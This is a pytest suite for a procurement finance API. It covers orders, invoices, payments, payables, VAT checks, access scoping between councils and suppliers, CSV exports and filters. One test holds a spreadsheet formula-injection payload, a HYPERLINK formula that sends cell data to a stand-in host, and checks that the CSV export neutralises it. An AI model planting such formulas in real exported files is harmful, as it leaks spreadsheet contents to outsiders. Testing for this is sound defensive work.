"""Finance over HTTP: what a supplier invoices, what a finance system records under its own ids and pulls."""

import csv
from io import StringIO
from typing import Any
from uuid import uuid4

import httpx
import pytest
from sqlalchemy.ext.asyncio import AsyncSession

from build import Council, council, seat, supplier
from calls import Call, ok, problem
from finance.house import (
    Signed,
    invoice_document,
    money,
    order_document,
    payable_contract,
    payment_document,
    today,
)
from procure.finance.schemas import ContractLine, InvoiceLine, Line, PayableLine, PaymentLine
from procure.kit.actor import Role
from procure.organisations.models import Organisation
from procure.vault.keyring import FileKeyring


@pytest.fixture
async def buyer(db: AsyncSession) -> Council:
    return await council(db)


@pytest.fixture
async def signed(db: AsyncSession, buyer: Council, vault: FileKeyring) -> Signed:
    signed = await payable_contract(db, buyer, await supplier(db), vault, planned=["2000.00"])
    await db.commit()
    return signed


async def send_invoice(call: Call, db: AsyncSession, signed: Signed, **changes: Any) -> Any:
    document = invoice_document("5900.00", "1180.00", on=await today(db)) | changes
    return ok(await call.post(signed.supplier, signed.invoices, document), 201)


async def test_accepted_work_is_ordered_invoiced_and_paid_to_the_penny(
    db: AsyncSession, call: Call, buyer: Council, signed: Signed
) -> None:
    day = await today(db)
    order = order_document(signed.contract.id, "12000.00", day)
    ok(await call.put(buyer.finance, "/v1/finance/orders/PO-7", order), 201)
    invoice = await send_invoice(call, db, signed)
    assert (invoice["status"], invoice["paid"], invoice["order_numbers"]) == ("received", money("0"), ["PO-7"])
    part = payment_document(invoice["id"], "7000.00", day)
    ok(await call.put(buyer.finance, "/v1/finance/payments/P-1", part), 201)
    outcome = ok(await call.get(None, f"/v1/outcomes/{signed.outcome.id}"))
    assert outcome["ledger"]["paid"] == money("5833.33")  # 5,900 of 7,080, as 7,000 of it
    rest = payment_document(invoice["id"], "80.00", day)
    ok(await call.put(buyer.finance, "/v1/finance/payments/P-2", rest), 201)
    found = ok(await call.get(buyer.finance, "/v1/finance/invoices"))["items"]
    assert [(one["status"], one["paid"], one["paid_on"]) for one in found] == [("paid", money("7080.00"), str(day))]
    payables = ok(await call.get(buyer.finance, "/v1/finance/payables"))["items"]
    by_key = {one["deliverable_key"]: one for one in payables}
    assert set(by_key) == {"D1", "D2"}  # D3 is planned, and nothing is owed for it
    assert (by_key["D1"]["state"], by_key["D1"]["invoice_number"], by_key["D1"]["paid"]) == (
        "paid",
        "INV-1",
        money("7080.00"),
    )
    assert (by_key["D2"]["state"], by_key["D2"]["invoice_id"], by_key["D2"]["due_on"]) == ("to_invoice", None, None)
    assert [by_key["D2"][name] for name in ("net", "vat_rate", "vat", "gross")] == [
        money("4100.00"),
        "20.00",
        money("820.00"),
        money("4920.00"),
    ]
    contract = ok(await call.get(buyer.finance, "/v1/finance/contracts"))["items"][0]
    sums = ("value", "ordered", "accepted", "invoiced", "invoiced_gross", "paid_gross")
    assert [contract[name]["amount"] for name in sums] == [
        "12000.00",
        "12000.00",
        "10000.00",
        "5900.00",
        "7080.00",
        "7080.00",
    ]
    outcome = ok(await call.get(None, f"/v1/outcomes/{signed.outcome.id}"))
    assert outcome["ledger"]["paid"] == money("5900.00")


async def test_each_id_is_recorded_once_whatever_is_sent_again(
    db: AsyncSession, call: Call, buyer: Council, signed: Signed
) -> None:
    day = await today(db)
    invoice = await send_invoice(call, db, signed)
    cases = (
        ("/v1/finance/orders/PO-7", order_document(signed.contract.id, "100.00", day), "order-known"),
        ("/v1/finance/payments/P-7", payment_document(invoice["id"], "100.00", day), "payment-known"),
    )
    for path, document, slug in cases:
        first = ok(await call.put(buyer.finance, path, document), 201)
        assert ok(await call.put(buyer.finance, path, document)) == first
        same = {**document, "amount": {"amount": "100", "currency": "GBP"}}  # the same amount, written otherwise
        assert ok(await call.put(buyer.finance, path, same)) == first
        problem(await call.put(buyer.finance, path, {**document, "amount": money("100.01")}), 409, slug)
    totals = ok(await call.get(buyer.finance, "/v1/finance/control-totals"))
    assert totals["payments"] == [{"state": "recorded", "currency": "GBP", "count": 1, "paid": money("100.00")}]


async def test_two_buyers_may_use_the_same_number(db: AsyncSession, call: Call, vault: FileKeyring) -> None:
    for name in ("Testshire Council", "Elsewhere Council"):
        buyer = await council(db, name=name)
        signed = await payable_contract(db, buyer, await supplier(db), vault)
        await db.commit()
        order = order_document(signed.contract.id, "100.00", await today(db))
        ok(await call.put(buyer.finance, "/v1/finance/orders/PO-1", order), 201)


async def test_orders_never_pass_the_contract(db: AsyncSession, call: Call, buyer: Council, signed: Signed) -> None:
    day = await today(db)
    most = order_document(signed.contract.id, "11999.99", day)
    ok(await call.put(buyer.finance, "/v1/finance/orders/PO-1", most), 201)
    for amount, status in (("0.02", 409), ("0.01", 201)):
        reply = await call.put(
            buyer.finance, "/v1/finance/orders/PO-2", order_document(signed.contract.id, amount, day)
        )
        assert reply.status_code == status, reply.text
    over = order_document(signed.contract.id, "0.01", day)
    problem(await call.put(buyer.finance, "/v1/finance/orders/PO-3", over), 409, "order-exceeds-contract")
    euros = {**over, "amount": money("0.01", "EUR")}
    body = problem(await call.put(buyer.finance, "/v1/finance/orders/PO-3", euros), 422, "order-invalid")
    assert [fault["pointer"] for fault in body["errors"]] == ["/amount/currency"]


async def test_payments_never_pass_the_invoice(db: AsyncSession, call: Call, buyer: Council, signed: Signed) -> None:
    day = await today(db)
    invoice = await send_invoice(call, db, signed)
    too_much = payment_document(invoice["id"], "7080.01", day)
    problem(await call.put(buyer.finance, "/v1/finance/payments/P-1", too_much), 409, "payment-exceeds-invoice")
    ok(await call.put(buyer.finance, "/v1/finance/payments/P-1", payment_document(invoice["id"], "7080", day)), 201)
    more = payment_document(invoice["id"], "0.01", day)
    problem(await call.put(buyer.finance, "/v1/finance/payments/P-2", more), 409, "payment-exceeds-invoice")


async def test_an_invoice_that_is_wrong_says_every_fault(db: AsyncSession, call: Call, signed: Signed) -> None:
    wrong = invoice_document("5900.01", "1180.01", on=await today(db)) | {"vat_rate": "17.50"}
    body = problem(await call.post(signed.supplier, signed.invoices, wrong), 422, "invoice-invalid")
    assert [fault["pointer"] for fault in body["errors"]] == ["/net/amount", "/vat_rate", "/vat/amount"]
    unknown = invoice_document("5900.00", "1180.00", key="D9", on=await today(db))
    body = problem(await call.post(signed.supplier, signed.invoices, unknown), 422, "invoice-invalid")
    assert [fault["pointer"] for fault in body["errors"]] == ["/deliverable_key"]
    ancient = invoice_document("5900.00", "1180.00", on=await today(db)) | {"issued_on": "1900-01-01"}
    body = problem(await call.post(signed.supplier, signed.invoices, ancient), 422, "invoice-invalid")
    assert [fault["pointer"] for fault in body["errors"]] == ["/issued_on"]


async def test_an_acceptance_is_invoiced_once_under_a_number_used_once(
    db: AsyncSession, call: Call, signed: Signed
) -> None:
    day = await today(db)
    await send_invoice(call, db, signed)
    again = invoice_document("5900.00", "1180.00", number="INV-2", on=day)
    problem(await call.post(signed.supplier, signed.invoices, again), 409, "acceptance-invoiced")
    same_number = invoice_document("4100.00", "820.00", key="D2", on=day)
    problem(await call.post(signed.supplier, signed.invoices, same_number), 409, "invoice-number-used")
    planned = invoice_document("2000.00", "400.00", key="D3", number="INV-3", on=day)
    problem(await call.post(signed.supplier, signed.invoices, planned), 409, "deliverable-not-accepted")


async def test_a_supplier_without_vat_invoices_none(db: AsyncSession, call: Call, signed: Signed) -> None:
    document = invoice_document("5900.00", "0.00", on=await today(db)) | {"vat_rate": "0"}
    invoice = ok(await call.post(signed.supplier, signed.invoices, document), 201)
    assert (invoice["vat_rate"], invoice["gross"]) == ("0.00", money("5900.00"))


async def test_money_is_seen_by_the_two_sides_of_its_contract_alone(
    db: AsyncSession, call: Call, buyer: Council, signed: Signed
) -> None:
    day = await today(db)
    invoice = await send_invoice(call, db, signed)
    ok(await call.put(buyer.finance, "/v1/finance/payments/P-1", payment_document(invoice["id"], "80", day)), 201)
    party = await db.get_one(Organisation, signed.supplier.organisation_id)
    insiders = (buyer.finance, buyer.auditor, signed.supplier, await seat(db, party, Role.VIEWER))
    other = await council(db, name="Elsewhere Council")
    outsiders = (other.finance, other.auditor, await supplier(db))
    await db.commit()
    counts = {"contracts": 1, "payables": 2, "invoices": 1, "payments": 1}
    for name, count in counts.items():
        for insider in insiders:
            assert len(ok(await call.get(insider, f"/v1/finance/{name}"))["items"]) == count
            assert len(rows_of(await call.get(insider, f"/v1/finance/{name}.csv"))) == count
        for outsider in outsiders:
            assert ok(await call.get(outsider, f"/v1/finance/{name}")) == {"items": [], "next": None}
            assert rows_of(await call.get(outsider, f"/v1/finance/{name}.csv")) == []
        problem(await call.get(buyer.officer, f"/v1/finance/{name}"), 403, "scope-missing")
        problem(await call.get(buyer.officer, f"/v1/finance/{name}.csv"), 403, "scope-missing")
        problem(await call.get(None, f"/v1/finance/{name}.csv"), 401, "unauthenticated")
    for outsider in outsiders:
        totals = ok(await call.get(outsider, "/v1/finance/control-totals"))
        assert [totals[name] for name in counts] == [[], [], [], []]


async def test_what_is_not_ones_own_does_not_exist(
    db: AsyncSession, call: Call, buyer: Council, signed: Signed
) -> None:
    day = await today(db)
    invoice = await send_invoice(call, db, signed)
    other, rival = await council(db, name="Elsewhere Council"), await supplier(db)
    await db.commit()
    order = order_document(signed.contract.id, "1.00", day)
    problem(await call.put(other.finance, "/v1/finance/orders/PO-1", order), 404, "contract-not-found")
    nowhere = order_document(uuid4(), "1.00", day)
    problem(await call.put(buyer.finance, "/v1/finance/orders/PO-1", nowhere), 404, "contract-not-found")
    payment = payment_document(invoice["id"], "1.00", day)
    problem(await call.put(other.finance, "/v1/finance/payments/P-1", payment), 404, "invoice-not-found")
    document = invoice_document("4100.00", "820.00", key="D2", on=day)
    problem(await call.post(rival, signed.invoices, document), 404, "contract-not-found")
    for writer in (buyer.auditor, signed.supplier):
        problem(await call.put(writer, "/v1/finance/orders/PO-1", order), 403, "scope-missing")
        problem(await call.put(writer, "/v1/finance/payments/P-1", payment), 403, "scope-missing")
    problem(await call.post(buyer.finance, signed.invoices, document), 403, "scope-missing")


def rows_of(reply: httpx.Response) -> list[dict[str, str]]:
    """A CSV reply's rows, by column."""
    assert reply.status_code == 200, reply.text
    assert reply.headers["content-type"] == "text/csv; charset=utf-8"
    assert int(reply.headers["content-length"]) == len(reply.content)
    text = reply.content.decode()
    assert text.endswith("\r\n")
    assert "\n" not in text.replace("\r\n", "")
    return list(csv.DictReader(StringIO(text, newline="")))


def as_cells(item: dict[str, Any]) -> dict[str, str]:
    """A JSON item as its CSV row has to be."""

    def cell(value: Any) -> str:
        if isinstance(value, dict):
            return str(value["amount"])
        return " ".join(value) if isinstance(value, list) else str(value or "")

    return {name: cell(value) for name, value in item.items()}


@pytest.mark.parametrize(
    ("name", "line"),
    [("contracts", ContractLine), ("payables", PayableLine), ("invoices", InvoiceLine), ("payments", PaymentLine)],
)
async def test_each_list_has_the_same_columns_and_rows_as_its_file(
    db: AsyncSession, call: Call, buyer: Council, signed: Signed, name: str, line: type[Line]
) -> None:
    day = await today(db)
    for number in ("PO-1", "PO-2"):
        order = order_document(signed.contract.id, "10.00", day)
        ok(await call.put(buyer.finance, f"/v1/finance/orders/{number}", order), 201)
    invoice = await send_invoice(call, db, signed)
    for number in ("P-1", "P-2"):
        part = payment_document(invoice["id"], "10.10", day)
        ok(await call.put(buyer.finance, f"/v1/finance/payments/{number}", part), 201)
    items: list[dict[str, Any]] = []
    path = f"/v1/finance/{name}?limit=1"
    while path:
        page = ok(await call.get(buyer.finance, path))
        items, path = items + page["items"], page["next"]
    rows = rows_of(await call.get(buyer.finance, f"/v1/finance/{name}.csv"))
    assert rows
    assert list(rows[0]) == list(line.__struct_fields__)
    assert rows == [as_cells(item) for item in items]


async def test_text_that_a_spreadsheet_would_run_is_made_harmless(
    db: AsyncSession, call: Call, buyer: Council, vault: FileKeyring
) -> None:
    evil = '=HYPERLINK("http://example.org/?"&A1,"see, here")'
    signed = await payable_contract(db, buyer, await supplier(db), vault, title=evil)
    await db.commit()
    await send_invoice(call, db, signed, number="@SUM(1+1)")
    rows = rows_of(await call.get(buyer.finance, "/v1/finance/payables.csv"))
    assert {row["deliverable_title"] for row in rows} == {f"'{evil}"}
    assert {row["invoice_number"] for row in rows} == {"'@SUM(1+1)", ""}
    shown = ok(await call.get(buyer.finance, "/v1/finance/payables"))["items"]
    assert {one["deliverable_title"] for one in shown} == {evil}


async def test_lists_are_filtered(db: AsyncSession, call: Call, buyer: Council, signed: Signed) -> None:
    invoice = await send_invoice(call, db, signed)
    supplier_id, contract_id = signed.supplier.organisation_id, signed.contract.id
    accepted = ok(await call.get(buyer.finance, "/v1/finance/payables"))["items"][0]["accepted_at"]
    due = invoice["due_on"]
    cases = {
        "payables?state=to_invoice": 1,
        "payables?state=invoiced": 1,
        "payables?state=paid": 0,
        f"payables?supplier_id={supplier_id}&contract_id={contract_id}": 2,
        f"payables?supplier_id={uuid4()}": 0,
        f"payables?contract_id={uuid4()}": 0,
        f"payables?accepted_after={accepted}": 2,
        f"payables?accepted_before={accepted}": 0,
        "payables?accepted_after=2199-01-01T00:00:00%2B01:00": 0,
        "contracts?status=active": 1,
        "contracts?status=lapsed": 0,
        f"contracts?outcome_id={signed.outcome.id}&supplier_id={supplier_id}": 1,
        f"contracts?outcome_id={uuid4()}": 0,
        "invoices?status=received": 1,
        "invoices?status=paid": 0,
        f"invoices?due_before={due}": 0,
        "invoices?due_before=2999-01-01": 1,
        f"payments?invoice_id={invoice['id']}": 0,
    }
    for query, count in cases.items():
        assert len(ok(await call.get(buyer.finance, f"/v1/finance/{query}"))["items"]) == count, query
        name, _, filters = query.partition("?")
        assert len(rows_of(await call.get(buyer.finance, f"/v1/finance/{name}.csv?{filters}"))) == count, query


async def test_a_filter_that_cannot_be_read_is_refused(call: Call, buyer: Council, signed: Signed) -> None:
    queries = (
        "payables?state=closed",
        "payables?accepted_after=2026-01-01T00:00:00",
        "payables?accepted_after=yesterday",
        "payables.csv?accepted_before=20260101",
        "payables?accepted_after=0001-01-01T00:00:00%2B14:00",
        "payables?accepted_before=9999-12-31T23:59:59-14:00",
        "payables?accepted_after=99999999999999999999",
        "payables?supplier_id=1",
        "payables.csv?colour=red",
        "payables.csv?limit=1",
        "invoices?due_before=2026-13-01",
    )
    for query in queries:
        problem(await call.get(buyer.finance, f"/v1/finance/{query}"), 400, "parameters-invalid")


async def test_an_outside_id_is_plain(db: AsyncSession, call: Call, buyer: Council, signed: Signed) -> None:
    order = order_document(signed.contract.id, "1.00", await today(db))
    for number in ("%0A", "PO%0A", "-1", "%3D1", "P O", "x" * 101, "é"):
        reply = await call.put(buyer.finance, f"/v1/finance/orders/{number}", order)
        problem(reply, 400, "parameters-invalid")


async def test_control_totals_come_to_what_the_lists_say(
    db: AsyncSession, call: Call, buyer: Council, signed: Signed
) -> None:
    day = await today(db)
    invoice = await send_invoice(call, db, signed)
    ok(await call.put(buyer.finance, "/v1/finance/payments/P-1", payment_document(invoice["id"], "80", day)), 201)
    totals: dict[str, Any] = ok(await call.get(buyer.finance, "/v1/finance/control-totals"))
    assert totals["contracts"] == [
        {"state": "active", "currency": "GBP", "count": 1, "net": money("12000"), "paid": money("80")}
    ]
    assert totals["payables"] == [
        {
            "state": "invoiced",
            "currency": "GBP",
            "count": 1,
            "net": money("5900"),
            "vat": money("1180"),
            "gross": money("7080"),
            "paid": money("80"),
        },
        {
            "state": "to_invoice",
            "currency": "GBP",
            "count": 1,
            "net": money("4100"),
            "vat": money("820"),
            "gross": money("4920"),
            "paid": money("0"),
        },
    ]
    assert totals["invoices"] == [{**totals["payables"][0], "state": "received"}]
    assert totals["payments"] == [{"state": "recorded", "currency": "GBP", "count": 1, "paid": money("80")}]


async def test_the_document_describes_files_and_both_answers_of_a_put(client: httpx.AsyncClient) -> None:
    paths = (await client.get("/openapi.json")).json()["paths"]
    for name in ("contracts", "payables", "invoices", "payments"):
        answer = paths[f"/v1/finance/{name}.csv"]["get"]["responses"]["200"]
        assert answer["content"]["text/csv"]["schema"] == {"contentMediaType": "text/csv"}
    for name in ("orders", "payments"):
        operation = paths[f"/v1/finance/{name}/{{external_id}}"]["put"]
        assert {"200", "201", "404", "409", "422"} <= set(operation["responses"])
